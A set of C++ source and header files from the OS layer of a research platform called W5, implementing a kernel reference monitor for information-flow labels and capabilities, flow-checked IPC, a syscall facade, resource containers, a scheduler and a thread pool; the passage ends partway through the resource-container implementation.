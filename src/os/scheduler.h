// Cooperative scheduler with resource-container enforcement (§3.5).
//
// Simulated tasks advance in round-robin "ticks"; every tick charges the
// task's resource container for CPU. Over-quota tasks are killed, so a
// rogue application burning CPU cannot starve other applications — the
// property bench_resources (E10) measures.
#pragma once

#include <cstdint>
#include <deque>
#include <functional>
#include <string>
#include <vector>

#include "os/kernel.h"
#include "os/resources.h"

namespace w5::os {

// A task step does one slice of work; it returns true when finished.
using TaskStep = std::function<bool()>;

enum class TaskState : std::uint8_t { kReady, kDone, kKilled };

struct TaskInfo {
  std::uint64_t id = 0;
  std::string name;
  TaskState state = TaskState::kReady;
  std::int64_t ticks_used = 0;
  std::string kill_reason;
};

class Scheduler {
 public:
  explicit Scheduler(Kernel& kernel) : kernel_(kernel) {}

  Scheduler(const Scheduler&) = delete;
  Scheduler& operator=(const Scheduler&) = delete;

  // Registers a task. `pid` links it to a kernel process whose container
  // is charged one CPU tick per step (pid may be kKernelPid for trusted
  // chores, which are never throttled).
  std::uint64_t submit(std::string name, Pid pid, TaskStep step);

  // Runs round-robin until all tasks finish/die or max_ticks elapse.
  // Returns ticks actually consumed.
  std::int64_t run(std::int64_t max_ticks);

  // Runs a single scheduling round (each ready task gets one step).
  // Returns the number of steps executed.
  std::size_t round();

  const TaskInfo* info(std::uint64_t id) const;
  std::size_t ready_count() const;
  std::vector<TaskInfo> snapshot() const;

 private:
  struct Task {
    TaskInfo info;
    Pid pid = kKernelPid;
    TaskStep step;
  };

  Kernel& kernel_;
  std::vector<Task> tasks_;
  std::uint64_t next_id_ = 1;
};

}  // namespace w5::os
