// The W5 kernel: trusted reference monitor for tags, processes, and
// capability movement (DESIGN.md §3.1, after Flume's reference monitor).
//
// Everything developer code can do flows through a Kernel method taking
// the caller's Pid; the kernel consults the process's label state merged
// with the global capability set Ô (capabilities every process holds —
// e.g. t+ for user secrecy tags, so any app may *contaminate itself* to
// read user data, while t- stays with declassifiers).
#pragma once

#include <cstdint>
#include <optional>
#include <shared_mutex>
#include <string>
#include <unordered_map>
#include <vector>

#include "difc/capability.h"
#include "difc/label_state.h"
#include "difc/tag_registry.h"
#include "os/process.h"
#include "util/result.h"
#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::os {

class Kernel {
 public:
  Kernel() = default;

  Kernel(const Kernel&) = delete;
  Kernel& operator=(const Kernel&) = delete;

  difc::TagRegistry& tags() noexcept { return tags_; }
  const difc::TagRegistry& tags() const noexcept { return tags_; }

  // --- Global capability set Ô -------------------------------------------
  difc::CapabilitySet global_caps() const;
  void add_global_capability(difc::Capability cap);
  // Snapshot restore only: tag ids are reused across restores, so stale
  // global capabilities from the pre-restore world could silently grant
  // t+ for a *different* tag that now wears the same id. Restore clears
  // the set, then re-publishes from the restored accounts.
  void clear_global_capabilities();

  // --- Process lifecycle ---------------------------------------------------
  // Trusted spawn: only callable with parent == kKernelPid semantics (the
  // provider's own code); no capability checks on the initial state.
  // Thread-safety: the kernel is shared by every request worker. The
  // process table and global state take a shared_mutex — exclusive for
  // any mutation (spawn/kill/exit/reap, label changes, capability moves),
  // shared for lookups. Process* returned by find() stays valid until
  // reap() (the table is node-based); a process's fields are only ever
  // written under the exclusive lock, so cross-thread readers holding the
  // shared lock are safe. Lock order: callers may hold a store-shard or
  // filesystem lock when entering the kernel; the kernel itself only
  // acquires container and tag-registry locks — never a caller's.
  Pid spawn_trusted(std::string name, difc::LabelState initial,
                    ResourceContainer* container = nullptr);

  // App-initiated spawn (paper: apps may invoke other modules). The child
  // may receive only capabilities the parent owns, and its initial labels
  // must be reachable from the parent's labels under the parent's
  // authority — otherwise spawn would be a label-laundering primitive.
  util::Result<Pid> spawn(Pid parent, std::string name,
                          const difc::LabelState& initial,
                          ResourceContainer* container = nullptr);

  Process* find(Pid pid);
  const Process* find(Pid pid) const;
  util::Status kill(Pid pid, std::string reason);
  util::Status exit(Pid pid);
  // Removes a process-table entry once the process is no longer running
  // (per-request processes would otherwise accumulate without bound).
  void reap(Pid pid);
  std::size_t live_process_count() const;
  std::size_t process_table_size() const;

  // --- Labels and capabilities --------------------------------------------
  // Effective state = process state with Ô merged into O. This is what
  // every check uses.
  util::Result<difc::LabelState> effective_state(Pid pid) const;

  util::Status set_secrecy(Pid pid, const difc::Label& to);
  util::Status raise_secrecy(Pid pid, const difc::Label& tags);
  util::Status set_integrity(Pid pid, const difc::Label& to);

  // Mints a fresh tag; the creating process receives dual privilege
  // (Flume: create_tag grants t+ and t- to the creator).
  util::Result<difc::Tag> create_tag(Pid creator, std::string name,
                                     difc::TagPurpose purpose);

  // Capability transfer from → to; `from` must hold the capability
  // (globals cannot be re-granted — they are already universal).
  util::Status grant(Pid from, Pid to, difc::Capability cap);

  // Irrevocably drop a capability (a declassifier shedding privilege).
  util::Status drop_capability(Pid pid, difc::Capability cap);

  // Charge the process's resource container (no-op without a container).
  util::Status charge(Pid pid, Resource r, std::int64_t amount);

 private:
  // Callers must hold mutex_ (shared suffices for lookup).
  util::Result<Process*> live_process(Pid pid) W5_REQUIRES_SHARED(mutex_);
  util::Result<const Process*> live_process(Pid pid) const
      W5_REQUIRES_SHARED(mutex_);

  mutable util::SharedMutex mutex_{util::lockrank::kKernel, "Kernel::mutex_"};
  difc::TagRegistry tags_;  // internally synchronized
  difc::CapabilitySet global_caps_ W5_GUARDED_BY(mutex_);
  std::unordered_map<Pid, Process> processes_ W5_GUARDED_BY(mutex_);
  Pid next_pid_ W5_GUARDED_BY(mutex_) = 1;
};

}  // namespace w5::os
