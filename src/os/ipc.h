// Flow-checked IPC (paper §2: the provider "must track data as it moves
// inside of a machine [and] between machines").
//
// Channels connect two process endpoints. Every send is checked against
// the Flume endpoint rule; every queued message remembers the secrecy it
// carried so receive can enforce (or auto-raise to) it. A process that
// lacks privilege simply cannot move bytes downhill — this is the
// in-machine half of the security perimeter.
#pragma once

#include <cstdint>
#include <deque>
#include <string>
#include <unordered_map>

#include "difc/endpoint.h"
#include "os/kernel.h"
#include "util/result.h"

namespace w5::os {

using ChannelId = std::uint64_t;

struct Message {
  std::string payload;
  difc::Label secrecy;    // label the data carried through the channel
  difc::Label integrity;  // endorsements it retained
};

class IpcBus {
 public:
  explicit IpcBus(Kernel& kernel) : kernel_(kernel) {}

  IpcBus(const IpcBus&) = delete;
  IpcBus& operator=(const IpcBus&) = delete;

  // Creates a bidirectional channel between two live processes. Each side
  // gets an endpoint; modes control auto-raise on receive.
  util::Result<ChannelId> connect(
      Pid a, difc::Endpoint endpoint_a, Pid b, difc::Endpoint endpoint_b);

  // Convenience: both endpoints start at each process's current labels,
  // receiver side auto-raising.
  util::Result<ChannelId> connect_default(Pid a, Pid b);

  util::Status send(Pid sender, ChannelId channel, std::string payload);

  // Receives the oldest deliverable message. If the process's endpoint is
  // kAutoRaise, the kernel raises the process secrecy to admit the
  // message when that is safe; otherwise undeliverable messages block the
  // queue (flow.denied).
  util::Result<Message> receive(Pid receiver, ChannelId channel);

  std::size_t pending(Pid receiver, ChannelId channel) const;

  util::Status close(ChannelId channel);

 private:
  struct Side {
    Pid pid = 0;
    difc::Endpoint endpoint;
    std::deque<Message> inbox;
  };
  struct Channel {
    Side a;
    Side b;
    bool open = true;
  };

  util::Result<Channel*> find_channel(ChannelId id);
  static Side& side_for(Channel& ch, Pid pid, bool peer);

  Kernel& kernel_;
  std::unordered_map<ChannelId, Channel> channels_;
  ChannelId next_id_ = 1;
};

}  // namespace w5::os
