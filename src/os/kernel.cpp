#include "os/kernel.h"

#include <mutex>

namespace w5::os {

namespace {

util::Error no_such_process(Pid pid) {
  return util::make_error("kernel.no_process",
                          "pid " + std::to_string(pid) + " not running");
}

}  // namespace

util::Result<Process*> Kernel::live_process(Pid pid) {
  const auto it = processes_.find(pid);
  if (it == processes_.end() || it->second.status != ProcessStatus::kRunning)
    return no_such_process(pid);
  return &it->second;
}

util::Result<const Process*> Kernel::live_process(Pid pid) const {
  const auto it = processes_.find(pid);
  if (it == processes_.end() || it->second.status != ProcessStatus::kRunning)
    return no_such_process(pid);
  return &it->second;
}

difc::CapabilitySet Kernel::global_caps() const {
  const util::ReadLock lock(mutex_);
  return global_caps_;
}

void Kernel::add_global_capability(difc::Capability cap) {
  const util::WriteLock lock(mutex_);
  global_caps_.add(cap);
}

void Kernel::clear_global_capabilities() {
  const util::WriteLock lock(mutex_);
  global_caps_ = difc::CapabilitySet();
}

Pid Kernel::spawn_trusted(std::string name, difc::LabelState initial,
                          ResourceContainer* container) {
  const util::WriteLock lock(mutex_);
  const Pid pid = next_pid_++;
  processes_[pid] = Process{pid,
                            kKernelPid,
                            std::move(name),
                            std::move(initial),
                            ProcessStatus::kRunning,
                            {},
                            container};
  return pid;
}

util::Result<Pid> Kernel::spawn(Pid parent, std::string name,
                                const difc::LabelState& initial,
                                ResourceContainer* container) {
  const util::WriteLock lock(mutex_);
  auto parent_proc = live_process(parent);
  if (!parent_proc.ok()) return parent_proc.error();
  difc::CapabilitySet merged = parent_proc.value()->labels.owned();
  merged.merge(global_caps_);
  const difc::LabelState parent_state(parent_proc.value()->labels.secrecy(),
                                      parent_proc.value()->labels.integrity(),
                                      std::move(merged));

  // The child's labels must be reachable from the parent's under the
  // parent's authority (otherwise spawn launders labels).
  if (!parent_state.change_is_safe(parent_state.secrecy(),
                                   initial.secrecy())) {
    return util::make_error("flow.denied",
                            "spawn: child secrecy " +
                                initial.secrecy().to_string() +
                                " unreachable from parent " +
                                parent_state.secrecy().to_string());
  }
  if (!parent_state.change_is_safe(parent_state.integrity(),
                                   initial.integrity())) {
    return util::make_error("flow.denied",
                            "spawn: child integrity unreachable from parent");
  }
  // Capabilities: the child may hold only what the parent holds
  // (non-global caps must come from the parent's own set).
  for (const auto& cap : initial.owned().capabilities()) {
    if (!parent_state.owned().has(cap)) {
      return util::make_error(
          "cap.denied", "spawn: parent lacks " + difc::to_string(cap));
    }
  }

  const Pid pid = next_pid_++;
  processes_[pid] =
      Process{pid,    parent, std::move(name),
              initial, ProcessStatus::kRunning,
              {},      container != nullptr ? container
                                            : parent_proc.value()->container};
  return pid;
}

Process* Kernel::find(Pid pid) {
  const util::ReadLock lock(mutex_);
  const auto it = processes_.find(pid);
  return it == processes_.end() ? nullptr : &it->second;
}

const Process* Kernel::find(Pid pid) const {
  const util::ReadLock lock(mutex_);
  const auto it = processes_.find(pid);
  return it == processes_.end() ? nullptr : &it->second;
}

util::Status Kernel::kill(Pid pid, std::string reason) {
  const util::WriteLock lock(mutex_);
  auto proc = live_process(pid);
  if (!proc.ok()) return proc.error();
  proc.value()->status = ProcessStatus::kKilled;
  proc.value()->exit_reason = std::move(reason);
  return util::ok_status();
}

util::Status Kernel::exit(Pid pid) {
  const util::WriteLock lock(mutex_);
  auto proc = live_process(pid);
  if (!proc.ok()) return proc.error();
  proc.value()->status = ProcessStatus::kExited;
  return util::ok_status();
}

void Kernel::reap(Pid pid) {
  const util::WriteLock lock(mutex_);
  const auto it = processes_.find(pid);
  if (it != processes_.end() && it->second.status != ProcessStatus::kRunning)
    processes_.erase(it);
}

std::size_t Kernel::live_process_count() const {
  const util::ReadLock lock(mutex_);
  std::size_t n = 0;
  for (const auto& [pid, proc] : processes_)
    if (proc.status == ProcessStatus::kRunning) ++n;
  return n;
}

std::size_t Kernel::process_table_size() const {
  const util::ReadLock lock(mutex_);
  return processes_.size();
}

util::Result<difc::LabelState> Kernel::effective_state(Pid pid) const {
  if (pid == kKernelPid) {
    // The kernel itself is omnipotent over all existing tags: model as a
    // state owning dual privilege for every registered tag.
    difc::CapabilitySet all;
    for (const difc::Tag tag : tags_.all()) all.add_dual(tag);
    return difc::LabelState({}, {}, std::move(all));
  }
  const util::ReadLock lock(mutex_);
  auto proc = live_process(pid);
  if (!proc.ok()) return proc.error();
  difc::CapabilitySet merged = proc.value()->labels.owned();
  merged.merge(global_caps_);
  return difc::LabelState(proc.value()->labels.secrecy(),
                          proc.value()->labels.integrity(),
                          std::move(merged));
}

util::Status Kernel::set_secrecy(Pid pid, const difc::Label& to) {
  // The kernel holds dual privilege over every tag; its label is pinned
  // at {} and label changes are vacuous.
  if (pid == kKernelPid) return util::ok_status();
  const util::WriteLock lock(mutex_);
  auto proc = live_process(pid);
  if (!proc.ok()) return proc.error();
  difc::CapabilitySet merged = proc.value()->labels.owned();
  merged.merge(global_caps_);
  difc::LabelState state(proc.value()->labels.secrecy(),
                         proc.value()->labels.integrity(), std::move(merged));
  if (auto status = state.set_secrecy(to); !status.ok()) return status;
  // The effective-state check (own caps ∪ Ô) is the authority; apply.
  proc.value()->labels = difc::LabelState(to, proc.value()->labels.integrity(),
                                          proc.value()->labels.owned());
  return util::ok_status();
}

util::Status Kernel::raise_secrecy(Pid pid, const difc::Label& tags) {
  if (pid == kKernelPid) return util::ok_status();
  difc::Label current;
  {
    const util::ReadLock lock(mutex_);
    auto proc = live_process(pid);
    if (!proc.ok()) return proc.error();
    current = proc.value()->labels.secrecy();
  }
  // Only this request's thread changes its own labels, so the fetch +
  // set pair cannot race with another raise on the same pid.
  return set_secrecy(pid, current.union_with(tags));
}

util::Status Kernel::set_integrity(Pid pid, const difc::Label& to) {
  if (pid == kKernelPid) return util::ok_status();
  const util::WriteLock lock(mutex_);
  auto proc = live_process(pid);
  if (!proc.ok()) return proc.error();
  difc::CapabilitySet merged = proc.value()->labels.owned();
  merged.merge(global_caps_);
  difc::LabelState state(proc.value()->labels.secrecy(),
                         proc.value()->labels.integrity(), std::move(merged));
  if (auto status = state.set_integrity(to); !status.ok()) return status;
  proc.value()->labels = difc::LabelState(proc.value()->labels.secrecy(), to,
                                          proc.value()->labels.owned());
  return util::ok_status();
}

util::Result<difc::Tag> Kernel::create_tag(Pid creator, std::string name,
                                           difc::TagPurpose purpose) {
  const util::WriteLock lock(mutex_);
  std::string owner = "kernel";
  Process* proc = nullptr;
  if (creator != kKernelPid) {
    auto live = live_process(creator);
    if (!live.ok()) return live.error();
    proc = live.value();
    owner = proc->name;
  }
  const difc::Tag tag = tags_.create(std::move(name), purpose,
                                     std::move(owner));
  if (proc != nullptr) proc->labels.owned().add_dual(tag);
  return tag;
}

util::Status Kernel::grant(Pid from, Pid to, difc::Capability cap) {
  const util::WriteLock lock(mutex_);
  auto target = live_process(to);
  if (!target.ok()) return target.error();
  if (from != kKernelPid) {
    auto source = live_process(from);
    if (!source.ok()) return source.error();
    if (!source.value()->labels.owned().has(cap)) {
      return util::make_error(
          "cap.denied", "grant: pid " + std::to_string(from) +
                            " does not own " + difc::to_string(cap));
    }
  }
  target.value()->labels.owned().add(cap);
  return util::ok_status();
}

util::Status Kernel::drop_capability(Pid pid, difc::Capability cap) {
  const util::WriteLock lock(mutex_);
  auto proc = live_process(pid);
  if (!proc.ok()) return proc.error();
  proc.value()->labels.owned().remove(cap);
  return util::ok_status();
}

util::Status Kernel::charge(Pid pid, Resource r, std::int64_t amount) {
  if (pid == kKernelPid) return util::ok_status();  // provider code is unmetered
  ResourceContainer* container = nullptr;
  {
    const util::ReadLock lock(mutex_);
    auto proc = live_process(pid);
    if (!proc.ok()) return proc.error();
    container = proc.value()->container;  // written only at spawn
  }
  if (container == nullptr) return util::ok_status();
  auto status = container->charge(r, amount);  // internally synchronized
  if (!status.ok()) {
    // Over-quota processes are killed, matching §3.5's requirement that
    // rogue applications cannot degrade the cluster.
    const util::WriteLock lock(mutex_);
    if (auto proc = live_process(pid); proc.ok()) {
      proc.value()->status = ProcessStatus::kKilled;
      proc.value()->exit_reason = status.error().detail;
    }
  }
  return status;
}

}  // namespace w5::os
