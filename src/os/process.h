// Process: the kernel's unit of labeled execution.
//
// W5 runs developer code in per-request processes (paper §2: the provider
// "launches the application" on each HTTP request). A process is a label
// state plus bookkeeping; actual code runs wherever the host platform
// likes, but every effect must pass through kernel calls keyed by Pid.
#pragma once

#include <cstdint>
#include <string>

#include "difc/label_state.h"
#include "os/resources.h"

namespace w5::os {

using Pid = std::uint64_t;

// Pid 0 is the kernel itself (fully trusted, used by the provider's own
// front-end code).
inline constexpr Pid kKernelPid = 0;

enum class ProcessStatus : std::uint8_t { kRunning, kExited, kKilled };

struct Process {
  Pid pid = 0;
  Pid parent = kKernelPid;
  std::string name;              // e.g. "app:devA/crop req#42"
  difc::LabelState labels;       // S, I, O (O excludes the global set)
  ProcessStatus status = ProcessStatus::kRunning;
  std::string exit_reason;
  ResourceContainer* container = nullptr;  // not owned; optional
};

}  // namespace w5::os
