// POSIX-flavored system-call facade (paper §2: "while they must code to
// the API exposed by the W5 platform, we expect that API to enable a wide
// range of functions, including file I/O, communication with other
// modules, etc. The Unix system call API, for instance, fits the bill and
// would allow existing software to run on W5").
//
// This layer gives ported software the familiar fd-based shape —
// open/read/write/lseek/dup/close plus pipe() — while every byte still
// moves through the labeled filesystem and flow-checked IPC underneath.
#pragma once

#include <cstdint>
#include <map>
#include <string>
#include <variant>

#include "os/filesystem.h"
#include "os/ipc.h"
#include "os/kernel.h"

namespace w5::os {

using Fd = std::int32_t;

enum class OpenMode : std::uint8_t {
  kRead,    // existing file, read-only (auto-raise semantics)
  kWrite,   // existing file, write (truncates on first write-at-0? no: in place)
  kAppend,  // existing file, writes go to the end
  kCreate,  // create new file (labels supplied), then read/write
};

class Syscalls {
 public:
  Syscalls(Kernel& kernel, FileSystem& fs, IpcBus& ipc)
      : kernel_(kernel), fs_(fs), ipc_(ipc) {}

  Syscalls(const Syscalls&) = delete;
  Syscalls& operator=(const Syscalls&) = delete;

  // ---- Files -----------------------------------------------------------------
  util::Result<Fd> open(Pid pid, const std::string& path, OpenMode mode,
                        const difc::ObjectLabels& create_labels = {});

  // Reads up to max bytes from the current offset (advances it).
  util::Result<std::string> read(Pid pid, Fd fd, std::size_t max);

  // Writes at the current offset, overwriting in place and extending at
  // the end (append mode always writes at EOF).
  util::Status write(Pid pid, Fd fd, std::string_view data);

  // Absolute seek; returns the new offset. Seeking past EOF is allowed
  // (reads there return ""); negative offsets are rejected.
  util::Result<std::size_t> lseek(Pid pid, Fd fd, std::int64_t offset);

  util::Result<FileStat> fstat(Pid pid, Fd fd);

  util::Result<Fd> dup(Pid pid, Fd fd);

  util::Status close(Pid pid, Fd fd);

  // Closes everything a process had open (called on exit).
  void close_all(Pid pid);

  // ---- Pipes (fd-wrapped flow-checked IPC) -------------------------------------
  // Creates a channel between two processes and returns (fd_in_a, fd_in_b),
  // each readable+writable by its own process only.
  util::Result<std::pair<Fd, Fd>> pipe(Pid a, Pid b);

  std::size_t open_fd_count(Pid pid) const;

 private:
  struct FileEntry {
    std::string path;
    OpenMode mode = OpenMode::kRead;
    std::size_t offset = 0;
  };
  struct PipeEntry {
    ChannelId channel = 0;
  };
  using Entry = std::variant<FileEntry, PipeEntry>;

  util::Result<Entry*> lookup(Pid pid, Fd fd);
  Fd allocate(Pid pid, Entry entry);

  Kernel& kernel_;
  FileSystem& fs_;
  IpcBus& ipc_;
  std::map<Pid, std::map<Fd, Entry>> tables_;
  std::map<Pid, Fd> next_fd_;
};

}  // namespace w5::os
