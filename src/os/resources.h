// Resource containers (paper §3.5, after Banga/Druschel/Mogul [2]).
//
// Every application on a W5 cluster runs inside a container that caps its
// CPU, memory, disk, and network consumption so a rogue application
// cannot degrade the cluster for everyone else. Containers form a tree:
// charging a request-scoped child also charges the application-scoped
// parent, so per-request *and* aggregate limits both bind.
#pragma once

#include <cstdint>
#include <memory>
#include <mutex>
#include <string>

#include "util/result.h"
#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::os {

enum class Resource : std::uint8_t { kCpu, kMemory, kDisk, kNetwork };

std::string to_string(Resource r);

struct ResourceVector {
  std::int64_t cpu_ticks = 0;
  std::int64_t memory_bytes = 0;
  std::int64_t disk_bytes = 0;
  std::int64_t network_bytes = 0;

  std::int64_t& operator[](Resource r);
  std::int64_t operator[](Resource r) const;

  friend bool operator==(const ResourceVector&,
                         const ResourceVector&) = default;
};

// kUnlimited disables a dimension's cap.
inline constexpr std::int64_t kUnlimited = -1;

// Thread-safe: a charge must validate the whole ancestor chain and then
// mutate it atomically, so the entire tree serializes on one mutex owned
// by the root container (contention is fine: the critical sections are a
// handful of integer compares). Structure (name, limits, parent links) is
// immutable after construction and needs no lock.
class ResourceContainer {
 public:
  ResourceContainer(std::string name, ResourceVector limits,
                    ResourceContainer* parent = nullptr);

  const std::string& name() const noexcept { return name_; }
  ResourceVector usage() const;
  const ResourceVector& limits() const noexcept { return limits_; }

  // Charges this container and every ancestor; fails atomically (no
  // partial charge) with quota.exceeded naming the container that binds.
  util::Status charge(Resource r, std::int64_t amount);

  // Memory is the one dimension that releases (free after a request).
  void release(Resource r, std::int64_t amount);

  bool exhausted(Resource r) const;

  // Headroom before the tightest limit on this container's ancestor
  // chain; kUnlimited when nothing binds.
  std::int64_t remaining(Resource r) const;

  void reset_usage();

 private:
  bool would_exceed(Resource r, std::int64_t amount) const;
  // The root container's mutex. The capability is dynamic (whichever
  // container is the root), so usage_ cannot carry W5_GUARDED_BY — the
  // analysis needs a lexically fixed lock expression. The util::MutexLock
  // guards in resources.cpp still give clang the acquire/release pairing.
  util::Mutex& tree_mutex() const;

  std::string name_;
  ResourceVector limits_;
  ResourceVector usage_;             // guarded by tree_mutex(), dynamically
  ResourceContainer* parent_;  // not owned; parent outlives children
  // Used only on the root container.
  mutable util::Mutex mutex_{util::lockrank::kResourceTree,
                             "ResourceContainer::mutex_"};
};

}  // namespace w5::os
