// Fixed-size worker pool: the platform's real concurrency substrate.
//
// The cooperative Scheduler (scheduler.h) models CPU *accounting* —
// resource-container ticks for untrusted app code. The ThreadPool is the
// other half of §3.5's "heavy traffic" story: a bounded set of OS threads
// that the gateway dispatches request handling onto, so one provider
// serves many mutually untrusting clients in parallel. Bounded by design:
// admission control happens at the queue, not by spawning a thread per
// connection.
#pragma once

#include <condition_variable>
#include <cstddef>
#include <cstdint>
#include <deque>
#include <functional>
#include <mutex>
#include <thread>
#include <vector>

#include "util/thread_annotations.h"
#include "util/lock_ranks.h"

namespace w5::os {

using Job = std::function<void()>;

class ThreadPool {
 public:
  // threads == 0 falls back to the hardware concurrency (min 2).
  // queue_limit bounds how many jobs may wait (0 = unbounded); only
  // try_submit honors it — the limit is the admission-control line the
  // front door sheds against, not a hidden drop inside submit().
  explicit ThreadPool(std::size_t threads, std::size_t queue_limit = 0);
  ~ThreadPool();  // shutdown(): drains queued jobs, then joins

  ThreadPool(const ThreadPool&) = delete;
  ThreadPool& operator=(const ThreadPool&) = delete;

  // Enqueues a job; runs on some worker. After shutdown() the job is
  // silently dropped (the pool is tearing down; callers hold no future).
  void submit(Job job);

  // Admission-controlled enqueue: false when the queue is at its limit
  // or the pool is stopping — the caller sheds instead of queueing.
  bool try_submit(Job job);

  // Blocks until the queue is empty and every worker is idle.
  void drain();

  // Stops accepting work, finishes what is queued, joins all workers.
  // Idempotent.
  void shutdown();

  std::size_t size() const noexcept { return workers_.size(); }
  std::size_t pending() const;

  // Observability (DESIGN.md §11): workers mid-job right now, lifetime
  // accepted/finished job counts, and the deepest the queue has ever run
  // — the admission-control signal /metrics exposes.
  std::size_t active() const;
  std::uint64_t jobs_submitted() const;
  std::uint64_t jobs_completed() const;
  std::uint64_t jobs_rejected() const;  // try_submit refusals
  std::size_t max_queue_depth() const;
  std::size_t queue_limit() const noexcept { return queue_limit_; }

 private:
  void worker_loop();

  mutable util::Mutex mutex_{util::lockrank::kThreadPool,
                              "ThreadPool::mutex_"};
  // Serializes shutdown() joins only; never held with mutex_.
  util::Mutex join_mutex_{util::lockrank::kThreadPoolJoin,
                          "ThreadPool::join_mutex_"};
  std::condition_variable work_ready_;
  std::condition_variable all_idle_;
  std::deque<Job> queue_ W5_GUARDED_BY(mutex_);
  std::vector<std::thread> workers_;  // written in ctor, joined in shutdown()
  std::size_t queue_limit_ = 0;       // const after ctor
  std::size_t active_ W5_GUARDED_BY(mutex_) = 0;
  bool stopping_ W5_GUARDED_BY(mutex_) = false;
  std::uint64_t submitted_ W5_GUARDED_BY(mutex_) = 0;
  std::uint64_t completed_ W5_GUARDED_BY(mutex_) = 0;
  std::uint64_t rejected_ W5_GUARDED_BY(mutex_) = 0;
  std::size_t max_queue_depth_ W5_GUARDED_BY(mutex_) = 0;
};

}  // namespace w5::os
