#include "os/ipc.h"

namespace w5::os {

util::Result<IpcBus::Channel*> IpcBus::find_channel(ChannelId id) {
  const auto it = channels_.find(id);
  if (it == channels_.end() || !it->second.open)
    return util::make_error("ipc.no_channel",
                            "channel " + std::to_string(id) + " not open");
  return &it->second;
}

IpcBus::Side& IpcBus::side_for(Channel& ch, Pid pid, bool peer) {
  const bool is_a = ch.a.pid == pid;
  if (peer) return is_a ? ch.b : ch.a;
  return is_a ? ch.a : ch.b;
}

util::Result<ChannelId> IpcBus::connect(Pid a, difc::Endpoint endpoint_a,
                                        Pid b, difc::Endpoint endpoint_b) {
  auto state_a = kernel_.effective_state(a);
  if (!state_a.ok()) return state_a.error();
  auto state_b = kernel_.effective_state(b);
  if (!state_b.ok()) return state_b.error();
  if (!endpoint_a.safe_for(state_a.value())) {
    return util::make_error("endpoint.unsafe",
                            "endpoint unsafe for pid " + std::to_string(a));
  }
  if (!endpoint_b.safe_for(state_b.value())) {
    return util::make_error("endpoint.unsafe",
                            "endpoint unsafe for pid " + std::to_string(b));
  }
  const ChannelId id = next_id_++;
  channels_[id] = Channel{Side{a, std::move(endpoint_a), {}},
                          Side{b, std::move(endpoint_b), {}}, true};
  return id;
}

util::Result<ChannelId> IpcBus::connect_default(Pid a, Pid b) {
  auto state_a = kernel_.effective_state(a);
  if (!state_a.ok()) return state_a.error();
  auto state_b = kernel_.effective_state(b);
  if (!state_b.ok()) return state_b.error();
  return connect(a,
                 difc::Endpoint(state_a.value().secrecy(),
                                state_a.value().integrity(),
                                difc::Endpoint::Mode::kAutoRaise),
                 b,
                 difc::Endpoint(state_b.value().secrecy(),
                                state_b.value().integrity(),
                                difc::Endpoint::Mode::kAutoRaise));
}

util::Status IpcBus::send(Pid sender, ChannelId channel,
                          std::string payload) {
  auto ch = find_channel(channel);
  if (!ch.ok()) return ch.error();
  if (ch.value()->a.pid != sender && ch.value()->b.pid != sender)
    return util::make_error("ipc.not_attached", "sender not on channel");

  Side& src = side_for(*ch.value(), sender, /*peer=*/false);
  Side& dst = side_for(*ch.value(), sender, /*peer=*/true);

  auto src_state = kernel_.effective_state(src.pid);
  if (!src_state.ok()) return src_state.error();
  auto dst_state = kernel_.effective_state(dst.pid);
  if (!dst_state.ok()) return dst_state.error();

  // A stale auto-raise endpoint floats up to the sender's current labels.
  // Fixed endpoints stay put on purpose: a declassifier's clean endpoint
  // must NOT be widened — check_send's safe_for() verifies the owner's
  // minus-capabilities justify the gap instead.
  if (src.endpoint.mode() == difc::Endpoint::Mode::kAutoRaise) {
    (void)src.endpoint.admit(src_state.value(), src_state.value().secrecy());
  }

  // Receiver endpoint floats up if it may.
  if (auto admitted =
          dst.endpoint.admit(dst_state.value(), src.endpoint.secrecy());
      !admitted.ok()) {
    return admitted;
  }

  if (auto status = src.endpoint.check_send(src_state.value(), dst.endpoint,
                                            dst_state.value());
      !status.ok()) {
    return status;
  }

  dst.inbox.push_back(Message{std::move(payload), src.endpoint.secrecy(),
                              src.endpoint.integrity()});
  return util::ok_status();
}

util::Result<Message> IpcBus::receive(Pid receiver, ChannelId channel) {
  auto ch = find_channel(channel);
  if (!ch.ok()) return ch.error();
  if (ch.value()->a.pid != receiver && ch.value()->b.pid != receiver)
    return util::make_error("ipc.not_attached", "receiver not on channel");

  Side& self = side_for(*ch.value(), receiver, /*peer=*/false);
  if (self.inbox.empty())
    return util::make_error("ipc.empty", "no pending messages");

  auto state = kernel_.effective_state(receiver);
  if (!state.ok()) return state.error();

  Message& msg = self.inbox.front();
  // Delivery contaminates: the process label must dominate the message.
  if (!msg.secrecy.subset_of(state.value().secrecy())) {
    if (self.endpoint.mode() != difc::Endpoint::Mode::kAutoRaise) {
      return util::make_error("flow.denied",
                              "message secrecy " + msg.secrecy.to_string() +
                                  " exceeds receiver label");
    }
    if (auto raised = kernel_.raise_secrecy(receiver, msg.secrecy);
        !raised.ok()) {
      return raised.error();
    }
  }
  Message out = std::move(msg);
  self.inbox.pop_front();
  return out;
}

std::size_t IpcBus::pending(Pid receiver, ChannelId channel) const {
  const auto it = channels_.find(channel);
  if (it == channels_.end()) return 0;
  const Channel& ch = it->second;
  if (ch.a.pid == receiver) return ch.a.inbox.size();
  if (ch.b.pid == receiver) return ch.b.inbox.size();
  return 0;
}

util::Status IpcBus::close(ChannelId channel) {
  auto ch = find_channel(channel);
  if (!ch.ok()) return ch.error();
  ch.value()->open = false;
  ch.value()->a.inbox.clear();
  ch.value()->b.inbox.clear();
  return util::ok_status();
}

}  // namespace w5::os
