#include "os/resources.h"

namespace w5::os {

std::string to_string(Resource r) {
  switch (r) {
    case Resource::kCpu:
      return "cpu";
    case Resource::kMemory:
      return "memory";
    case Resource::kDisk:
      return "disk";
    case Resource::kNetwork:
      return "network";
  }
  return "unknown";
}

std::int64_t& ResourceVector::operator[](Resource r) {
  switch (r) {
    case Resource::kCpu:
      return cpu_ticks;
    case Resource::kMemory:
      return memory_bytes;
    case Resource::kDisk:
      return disk_bytes;
    case Resource::kNetwork:
      return network_bytes;
  }
  return cpu_ticks;
}

std::int64_t ResourceVector::operator[](Resource r) const {
  return const_cast<ResourceVector&>(*this)[r];
}

ResourceContainer::ResourceContainer(std::string name, ResourceVector limits,
                                     ResourceContainer* parent)
    : name_(std::move(name)), limits_(limits), parent_(parent) {}

util::Mutex& ResourceContainer::tree_mutex() const {
  const ResourceContainer* root = this;
  while (root->parent_ != nullptr) root = root->parent_;
  return root->mutex_;
}

